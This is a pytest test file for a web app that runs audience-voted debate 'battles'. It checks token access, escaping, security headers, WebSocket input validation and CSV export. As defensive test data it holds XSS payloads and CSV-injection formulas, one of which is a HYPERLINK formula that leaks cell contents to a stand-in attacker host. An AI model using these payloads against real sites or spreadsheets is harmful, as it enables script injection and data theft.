"""The HTTP API, the pages and bad input: in this process (``app``, tests.inprocess), and
on a real server where uvicorn, the process or a fault is the point."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import re
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis
from starlette.testclient import WebSocketDenialResponse

from battles.headers import SECURITY_HEADERS
from battles.views import spreadsheet_safe
from tests.clients import Client
from tests.inprocess import InProcess
from tests.servers import RedisServer, Server

MARKUP = "<img src=x onerror=alert(1)>"
BATTLERS = [
    {"name": MARKUP, "vision": "<script>alert('v')</script>"},
    {"name": "Bo", "vision": "Every roof a forest"},
    {"name": "Camille", "vision": "A four-day week"},
]


def test_healthz_says_the_store_is_reachable(app: InProcess) -> None:
    response = app.get("/healthz")
    assert response.status_code == 200
    assert response.json()["ok"] is True and response.json()["store"] == "reachable"


def test_creating_a_battle_answers_with_its_code_and_links(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS, language="da", rules={"vote_mode": "out"})
    code = created["code"]
    assert len(code) == 6 and code.isalnum()
    assert created["links"]["join"] == f"{app.url}/join/{code}"
    assert created["links"]["host"].startswith(f"{app.url}/host/{code}#")
    assert len(created["host_token"]) >= 40 and created["host_token"] != created["screen_token"]
    public = app.get(f"/api/battles/{code}").json()
    assert public["language"] == "da" and public["rules"]["vote_mode"] == "out"
    assert "log" not in public
    assert "banned_words" not in public["rules"]  # the moderators' list is not read out to anyone


@pytest.mark.parametrize(
    "draft, problem",
    [
        ({"battlers": []}, "title"),
        ({"title": "T", "rules": {"vote_mode": "loudest"}}, "vote_mode"),
        ({"title": "T", "rules": {"turn_seconds": 0}}, "turn_seconds"),
        ({"title": "x" * 500}, "title"),
        ({"title": "T", "admin": True}, "admin"),
    ],
)
def test_a_bad_battle_is_refused_with_the_reason(app: InProcess, draft: dict[str, object], problem: str) -> None:
    response = app.post("/api/battles", json=draft)
    assert response.status_code == 422
    assert problem in json.dumps(response.json()["details"])


def test_an_oversized_request_body_is_refused(app: InProcess) -> None:
    response = app.post("/api/battles", content=b"{" + b" " * 70_000 + b"}")
    assert response.status_code == 413


def test_the_export_needs_the_host_token_or_the_results_token(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    url = f"/api/battles/{created['code']}/export.json"
    results_token = created["links"]["results"].split("#", 1)[1]
    assert app.get(url).status_code == 401
    for token in (created["screen_token"], created["cohost_token"], "wrong"):
        assert app.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 401
    for token in (created["host_token"], results_token):
        assert app.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 200
    assert app.get("/api/battles/NOPE22/export.json").status_code == 404


def test_the_results_link_does_not_carry_the_host_token_nor_open_the_console(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    results_token = created["links"]["results"].split("#", 1)[1]
    assert created["links"]["results"] == f"{app.url}/results/{created['code']}#{results_token}"
    assert len(results_token) >= 43  # 256 bits
    assert results_token not in (created["host_token"], created["cohost_token"], created["screen_token"])
    for role in ("host", "cohost", "screen"):
        with pytest.raises(WebSocketDenialResponse) as refused:
            app.open(role, created["code"], results_token)
        assert refused.value.status_code == 401
    # A battle's results token reads only that battle's export.
    other = app.create_battle(title="Other", battlers=BATTLERS)
    response = app.get(
        f"/api/battles/{other['code']}/export.json", headers={"authorization": f"Bearer {results_token}"}
    )
    assert response.status_code == 401


async def test_the_stream_overlay_is_the_screen_s_link_on_its_own_page(app: InProcess) -> None:
    # docs/operations.md, "A stream overlay in OBS": the screen's token, its socket, a page of its own.
    created = app.create_battle(title="T", battlers=BATTLERS)
    code = created["code"]
    assert created["links"]["overlay"] == f"{app.url}/overlay/{code}#{created['screen_token']}"
    page = app.get(f"/overlay/{code}")
    assert page.status_code == 200
    scripts = re.findall(r'<script type="module" src="/static/[0-9a-f]{12}/([\w/]+\.js)"', page.text)
    assert scripts == ["overlay.js"]
    for sheet in ("screen/reveal.css", "overlay.css"):
        assert re.search(rf'href="/static/[0-9a-f]{{12}}/{sheet}"', page.text), sheet
    assert app.get("/overlay/NOSUCH").status_code == 404
    # Where to vote, as the server's links have it: the stream's viewers cannot open the address
    # the mixer's browser used.
    assert f'<strong class="join-url">{app.url}/join/{code}</strong>' in page.text
    assert f'<strong class="join-url">{app.url}/watch/{code}</strong>' in page.text
    # The console's links carry it beside the screen's; a co-host's too (it runs the show).
    for role, token in (("host", created["host_token"]), ("cohost", created["cohost_token"])):
        console = await app.connect(role, code, token)
        assert console.snapshot["links"]["overlay"] == created["links"]["overlay"]
        await console.close()


def test_the_stream_overlay_names_the_public_url_where_to_vote(tmp_path: Path) -> None:
    # The mixer's browser on the server's own machine, the phones on the public address.
    local = {"host": "127.0.0.1:8000"}
    with InProcess(f"sqlite:///{tmp_path / 'battles.sqlite3'}", public_url="https://battles.example.org/") as app:
        code = app.post("/api/battles", json={"title": "T", "battlers": BATTLERS}, headers=local).json()["code"]
        page = app.get(f"/overlay/{code}", headers=local).text
    assert f">https://battles.example.org/join/{code}<" in page
    assert f">https://battles.example.org/watch/{code}<" in page


def test_markup_in_names_comes_back_as_text_on_every_page(app: InProcess) -> None:
    created = app.create_battle(title=f"Title {MARKUP}", battlers=BATTLERS)
    for page in ("join", "screen", "overlay", "host", "results"):
        response = app.get(f"/{page}/{created['code']}")
        assert response.status_code == 200
        assert MARKUP not in response.text
        assert "&lt;img src=x onerror=alert(1)&gt;" in response.text
        assert "script-src 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
    # The API is data: it returns the name exactly as typed, for pages to show as text.
    public = app.get(f"/api/battles/{created['code']}").json()
    assert public["battlers"][0]["name"] == MARKUP


def test_the_charts_are_svg_for_anyone_in_the_language_asked_for(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    base = f"/api/battles/{created['code']}/charts"
    for chart in ("votes", "engagement"):
        response = app.get(f"{base}/{chart}.svg")
        assert response.status_code == 200 and response.headers["content-type"] == "image/svg+xml"
        assert response.text.startswith("<svg ") and "<script" not in response.text
        assert response.headers["content-security-policy"] == SECURITY_HEADERS["content-security-policy"]
    assert "No vote was counted." in app.get(f"{base}/votes.svg").text
    assert "Ingen afstemning blev talt op." in app.get(f"{base}/votes.svg", params={"lang": "da"}).text
    assert "No vote was counted." in app.get(f"{base}/votes.svg", params={"lang": "xx"}).text  # the battle's language
    assert app.get(f"{base}/pie.svg").status_code == 404
    assert app.get("/api/battles/NOPE22/charts/votes.svg").status_code == 404


def test_the_poster_page_is_the_results_links_page_to_print(app: InProcess) -> None:
    created = app.create_battle(title=MARKUP, battlers=BATTLERS, language="da")
    page = app.get(f"/results/{created['code']}/poster")
    assert page.status_code == 200 and "poster.js" in page.text
    assert MARKUP not in page.text and "&lt;img src=x onerror=alert(1)&gt;" in page.text
    assert '<html lang="da">' in page.text
    assert app.get("/results/NOPE22/poster").status_code == 404


def test_the_qr_code_encodes_the_join_link(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    response = app.get(f"/qr/{created['code']}.svg")
    assert response.status_code == 200 and response.headers["content-type"].startswith("image/svg+xml")
    assert response.text.lstrip().startswith("<svg")


def cpu_seconds(pid: int) -> float:
    """User and system CPU time of a process so far (proc(5): fields 14 and 15)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def test_only_a_battle_gets_a_qr_code_drawn_once_and_every_miss_counts(tmp_path: Path) -> None:
    """`GET /qr/<2,400 characters>.svg` was a 500 with a traceback, 2,000 characters cost
    150 to 200 ms of the event loop each, none of it counted as a failed lookup, and the
    QR code of a real battle was drawn again for every request."""
    server = Server(f"sqlite:///{tmp_path / 'b.sqlite3'}", tmp_path / "server.log", lookup_failure_burst=6).start()
    try:
        code = server.create_battle(title="T", battlers=BATTLERS)["code"]
        assert server.process is not None
        with httpx.Client(base_url=server.url) as client:
            drawn = client.get(f"/qr/{code}.svg")
            assert drawn.status_code == 200 and drawn.content == client.get(f"/qr/{code.lower()}.svg").content
            # Drawn once: a hundred more cost the server about what a hundred /healthz do
            # (before, each one drew the code again: several times as much).
            costs = {}
            for path in (f"/qr/{code}.svg", "/healthz") * 2:  # the second round counts
                before = cpu_seconds(server.process.pid)
                assert all(client.get(path).status_code == 200 for _ in range(100))
                costs[path] = cpu_seconds(server.process.pid) - before
            assert costs[f"/qr/{code}.svg"] < 2 * costs["/healthz"] + 0.05, costs
            guesser = {"X-Forwarded-For": "203.0.113.9"}
            for guess in ("A" * 2400, "B" * 2000, "NOPE22", "K7RM2Q", "abc", code + "0" * 20):
                missed = client.get(f"/qr/{guess}.svg", headers=guesser)
                assert missed.status_code == 404 and missed.headers["x-frame-options"] == "DENY", missed.text[:200]
            # The misses counted: now even a real battle's QR code is refused to that address.
            assert client.get(f"/qr/{code}.svg", headers=guesser).status_code == 429
            assert client.get(f"/qr/{code}.svg").status_code == 200
    finally:
        server.stop()
    log = (tmp_path / "server.log").read_text()
    assert "Traceback" not in log and "DataOverflow" not in log, log[-3000:]


async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    code = created["code"]
    host = await app.connect("host", code, created["host_token"])
    phone = await app.connect("audience", code)

    await phone.socket.send("{not json")
    assert (await phone.expect("error"))["reason"] == "bad_json"
    assert (await phone.request({"type": "teleport"}))["reason"] == "unknown_type"
    refused = await phone.request({"type": "start_round", "seq": phone.seq})
    assert refused["reason"] == "not_allowed" and refused["message"]
    assert (await phone.request({"type": "react", "kind": "tomato"}))["reason"] == "bad_message"
    assert (await host.request({"type": "next"}))["reason"] == "seq_required"
    assert (await host.request({"type": "vote", "vote_id": "r1v1", "choice": "b1", "ballot_id": "abcdefgh"}))[
        "reason"
    ] == "not_allowed"
    assert (await host.command("next"))["reason"] == "wrong_phase"
    assert host.battle["version"] == 0  # nothing changed

    vote_id = await _open_vote(host)
    assert (await phone.vote(vote_id, "b9"))["reason"] == "bad_choice"
    assert (await phone.vote("r7v1", "b1"))["reason"] == "wrong_vote"
    assert (await phone.vote(vote_id, "b1"))["status"] == "counted"
    await host.run("close_vote")
    late = await phone.vote(vote_id, "b2")
    assert late["reason"] == "vote_closed"
    # Errors come in the connection's language.
    assert (await phone.request({"type": "set_language", "language": "da"}))["type"] == "ack"
    assert (await phone.vote(vote_id, "b2"))["message"] == "Afstemningen er lukket."
    # A code among the params is said in words, and stays a code in params (docs/protocol.md, error).
    refused = await phone.request({"type": "start_round", "seq": phone.seq})
    assert (refused["message"], refused["params"]) == ("Din rolle (Publikum) må ikke sende det.", {"role": "audience"})
    await host.run("reveal_results")
    assert host.battle["rounds"][-1]["votes"][-1]["totals"] == {"b1": 1, "b2": 0, "b3": 0}
    # The pong still flows: the socket survived every refusal.
    assert (await phone.request({"type": "ping", "t": 1.5}))["type"] == "pong"


async def test_a_vote_for_an_eliminated_battler_is_refused(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    host = await app.connect("host", created["code"], created["host_token"])
    phone = await app.connect("audience", created["code"])
    await _open_vote(host)
    await host.run("close_vote")
    await host.run("reveal_results")
    await host.run("override_elimination", battlers=["b2"], reason="test")
    vote_id = await _open_vote(host)
    assert (await phone.vote(vote_id, "b2"))["reason"] == "bad_choice"


def test_wrong_tokens_and_unknown_battles_are_refused_at_the_handshake(app: InProcess) -> None:
    created = app.create_battle(title="T", battlers=BATTLERS)
    code = created["code"]
    for role, token in [("host", None), ("host", created["screen_token"]), ("screen", "guess"), ("admin", None)]:
        with pytest.raises(WebSocketDenialResponse):
            app.open(role, code, token)
    with pytest.raises(WebSocketDenialResponse):
        app.open("audience", "NOPE22")


async def _open_vote(host: Client) -> str:
    if host.battle["phase"] in ("lobby", "elimination"):
        await host.run("start_round")
    while host.battle["phase"] in ("challenge", "turn", "debate"):
        await host.run("next")
    await host.run("open_vote")
    return str(host.battle["rounds"][-1]["votes"][-1]["id"])


def test_static_files_are_kept_under_their_versioned_address_and_checked_under_the_plain_one(app: InProcess) -> None:
    page = app.get("/").text
    match = re.search(r'href="(/static/[0-9a-f]{12}/)battles\.css"', page)
    assert match, "the page links its stylesheet under a versioned address"
    # A module in a folder of static/ (the pages' shared modules in static/client/) too.
    kept = app.get(f"{match[1]}client/live.js")
    assert kept.status_code == 200 and kept.headers["cache-control"] == "public, max-age=31536000, immutable"
    plain = app.get("/static/client/live.js")
    assert plain.text == kept.text and plain.headers["cache-control"] == "no-cache"
    again = app.get("/static/client/live.js", headers={"if-none-match": plain.headers["etag"]})
    assert again.status_code == 304 and again.headers["cache-control"] == "no-cache"
    assert app.get("/static/000000000000/client/live.js").status_code == 404


def test_the_catalogs_are_a_file_the_browser_keeps(app: InProcess) -> None:
    page = app.get("/new").text
    match = re.search(r'<link rel="preload" id="catalogs" href="(/i18n/[0-9a-f]{12}\.json)"', page)
    assert match, "the page preloads the catalogs file"
    assert "application/json" not in page, "no catalog inline in the page"
    catalogs = app.get(match[1])
    assert catalogs.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert catalogs.json()["da"]["Next step"] == "Næste skridt"
    assert app.get("/i18n/000000000000.json").status_code == 404


@pytest.mark.parametrize(
    "rules, problem",
    [
        ({"turn_seconds": "90"}, "turn_seconds"),
        ({"turn_seconds": True}, "turn_seconds"),
        ({"live_totals": "yes"}, "live_totals"),
        ({"live_totals": 1}, "live_totals"),
    ],
)
def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(
    app: InProcess, rules: dict[str, object], problem: str
) -> None:
    response = app.post("/api/battles", json={"title": "T", "battlers": BATTLERS, "rules": rules})
    assert response.status_code == 422, response.text
    assert problem in json.dumps(response.json()["details"])


async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A lone surrogate ("\\ud800", a JSON escape of half a UTF-16 pair) once got `internal`
    and a traceback per frame, and past the rate limit the error reply itself could not be
    encoded: the socket died with 1006."""
    with InProcess(f"sqlite:///{tmp_path / 'b.sqlite3'}", message_burst=5, message_rate=5) as app:
        created = app.create_battle(title="T", battlers=BATTLERS)
        phone = await app.connect("audience", created["code"])
        host = await app.connect("host", created["code"], created["host_token"])
        lone = [
            '{"type":"ping","t":1,"id":"\\ud800"}',
            '{"type":"set_nickname","nickname":"a\\udfff","id":"n1"}',
            '{"type":"ping","t":1,"\\ud83d":1,"id":"k1"}',
            '{"type":"edit_battle","seq":0,"title":"\\ud800x","id":"e1"}',
        ]
        for frame, request_id in zip(lone, [None, "n1", "k1"]):  # the fourth is the host's
            await phone.socket.send(frame)
            refused = await phone.expect("error")
            assert (refused["reason"], refused["id"]) == ("bad_message", request_id), refused
        await host.socket.send(lone[3])
        assert (await host.expect("error"))["reason"] == "bad_message"
        # Past the limit, the rate_limited reply must not echo the lone surrogate either.
        for _ in range(10):
            await phone.socket.send(lone[0])
        reasons = [(await phone.expect("error"))["reason"] for _ in range(10)]
        assert "rate_limited" in reasons and set(reasons) <= {"rate_limited", "bad_message"}
        await asyncio.sleep(2.5)  # out of debt at message_rate
        assert (await phone.request({"type": "ping", "t": 2}))["type"] == "pong"
        assert phone.socket.close_code is None and host.battle["title"] == "T"
        await asyncio.gather(phone.close(), host.close())
    # Nothing failed: no error logged, and the app ended each socket without an exception
    # (one would have come out of the `with`).
    failures = [record for record in caplog.records if record.levelno >= logging.ERROR or record.exc_info]
    assert not failures, [record.getMessage() for record in failures]


async def test_binary_frames_and_loose_types_are_refused_on_the_socket(app: InProcess) -> None:
    """docs/protocol.md: text frames of JSON, every field of its own type."""
    created = app.create_battle(title="T", battlers=BATTLERS)
    host = await app.connect("host", created["code"], created["host_token"])
    phone = await app.connect("audience", created["code"])
    await phone.socket.send(json.dumps({"type": "ping", "t": 1, "id": "b1"}).encode())
    assert (await phone.expect("error"))["reason"] == "binary_frame"
    await host.socket.send(json.dumps({"type": "resync", "id": "b2"}).encode())
    assert (await host.expect("error"))["reason"] == "binary_frame"
    await host.run("start_round")
    version = host.battle["version"]
    for fields in (
        {"type": "extend_timer", "seconds": "90"},
        {"type": "extend_timer", "seconds": True},
        {"type": "edit_battle", "rules": {"live_totals": "yes"}},
        {"type": "edit_battle", "rules": {"turn_seconds": "120"}},
        {"type": "edit_battle", "rules": {"live_totals": 1}},
    ):
        refused = await host.command(fields.pop("type"), **fields)  # type: ignore[arg-type]
        assert refused["reason"] == "bad_message", refused
    assert (await phone.request({"type": "ping", "t": "1"}))["reason"] == "bad_message"
    assert (await phone.request({"type": "ping", "t": True}))["reason"] == "bad_message"
    # A seq that is not an integer is no seq at all.
    assert (await host.request({"type": "next", "seq": str(host.seq)}))["reason"] == "seq_required"
    await host.request({"type": "resync"})
    assert host.battle["version"] == version and phone.socket.close_code is None
    await host.run("next")  # the first turn, on the clock
    assert (await host.command("extend_timer", seconds=90))["type"] == "ack"
    await asyncio.gather(host.close(), phone.close())


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"]


async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(app: InProcess) -> None:
    """A battler named =HYPERLINK(...), or =2+2 added by a co-host, came out raw in
    export.csv, where a spreadsheet runs it (OWASP, CSV injection)."""
    battlers = [{"name": name, "vision": "A vision"} for name in FORMULAS[:3]]
    created = app.create_battle(title="=1+1", battlers=battlers, topic="@topic")
    cohost = await app.connect("cohost", created["code"], created["cohost_token"])
    await cohost.run("add_battler", name=FORMULAS[3], vision="=2+2")
    await cohost.close()
    auth = {"authorization": f"Bearer {created['host_token']}"}
    base = f"/api/battles/{created['code']}/export"
    table = list(csv.DictReader(io.StringIO(app.get(f"{base}.csv", headers=auth).text)))
    names = {row["name"] for row in table if row["section"] == "battler"}
    assert names == {"'" + name for name in FORMULAS}, names
    cells = [cell for row in table for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert {"'=1+1", "'@topic", "'=2+2"} <= set(cells)
    # JSON is data, not a spreadsheet: exactly as typed.
    exported = app.get(f"{base}.json", headers=auth).json()["battle"]
    assert [b["name"] for b in exported["battlers"]] == FORMULAS
    assert (exported["title"], exported["topic"], exported["battlers"][3]["vision"]) == ("=1+1", "@topic", "=2+2")


@pytest.mark.parametrize("cell", ["\tx", "\rx", "=x", "+x", "-x", "@x"])
def test_every_formula_start_is_quoted(cell: str) -> None:
    """Tabs and returns cannot start a name (names are stripped), but may start other text."""
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("x" + cell) == "x" + cell and spreadsheet_safe(-3) == -3


async def test_every_response_carries_the_security_headers_a_500_included(redis_server: Any, tmp_path: Path) -> None:
    """Starlette answers an unexpected error outside the app's middleware: a 500 (here: a
    stored battle that no longer parses, under a page load) once came without any of the headers."""
    server = Server(redis_server.url, tmp_path / "server.log").start()
    try:
        code = server.create_battle(title="T", battlers=BATTLERS)["code"]
        answers = [
            httpx.get(f"{server.url}/join/{code}"),
            httpx.get(f"{server.url}/join/NOPE22"),
            httpx.post(f"{server.url}/api/battles", json={"title": ""}),
            httpx.put(f"{server.url}/api/battles"),
            httpx.get(f"{server.url}/static/missing.js"),
        ]
        with redis.Redis(port=redis_server.port) as client:  # key layout: battles/stores/redis.py
            client.hset(f"battle:{{{code}}}", "state", "{")
        failed = httpx.get(f"{server.url}/join/{code}")
        assert failed.status_code == 500 and "Traceback" not in failed.text
        assert [a.status_code for a in answers] == [200, 404, 422, 405, 404]
        for answer in [*answers, failed]:
            missing = {k: v for k, v in SECURITY_HEADERS.items() if answer.headers.get(k) != v}
            assert not missing, (answer.status_code, answer.url, missing)
    finally:
        server.stop()


def test_with_the_store_away_pages_and_the_api_ask_to_come_back(redis_server: RedisServer) -> None:
    """A 503 with Retry-After, not a 500: the store (Redis) away is a moment to wait, for a
    page and the API as for a handshake. A browser gets a page that tries again by itself."""
    redis_server.flush()
    with InProcess(redis_server.url) as app:
        code = app.create_battle(title="Doors", battlers=BATTLERS)["code"]
        redis_server.stop()
        try:
            pages = [app.get(f"/join/{code}?lang={lang}", headers={"accept": "text/html"}) for lang in ("da", "en")]
            api = [app.get(f"/api/battles/{code}"), app.post("/api/battles", json={"title": "T", "battlers": BATTLERS})]
        finally:
            redis_server.start()
    for answer, words in zip(pages, ("Tilbage om et øjeblik", "Back in a moment")):
        assert (answer.status_code, answer.headers["retry-after"]) == (503, "5")
        assert words in answer.text and '<meta http-equiv="refresh" content="5">' in answer.text
    for answer in api:
        assert (answer.status_code, answer.text, answer.headers["retry-after"]) == (
            503,
            "the store is unreachable",
            "5",
        )
    for answer in [*pages, *api]:
        assert not {k for k, v in SECURITY_HEADERS.items() if answer.headers.get(k) != v}
